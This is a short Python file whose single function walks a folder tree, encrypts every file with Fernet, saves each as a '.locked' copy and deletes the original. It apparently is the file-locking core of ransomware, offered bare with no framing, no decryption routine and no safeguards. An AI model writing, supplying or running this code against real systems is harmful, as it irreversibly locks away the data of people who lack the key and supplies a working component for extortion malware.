import os
from cryptography.fernet import Fernet

def lock(folder, key):
    for place, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(place, name)
            data = Fernet(key).encrypt(open(path, "rb").read())
            open(path + ".locked", "wb").write(data)
            os.remove(path)
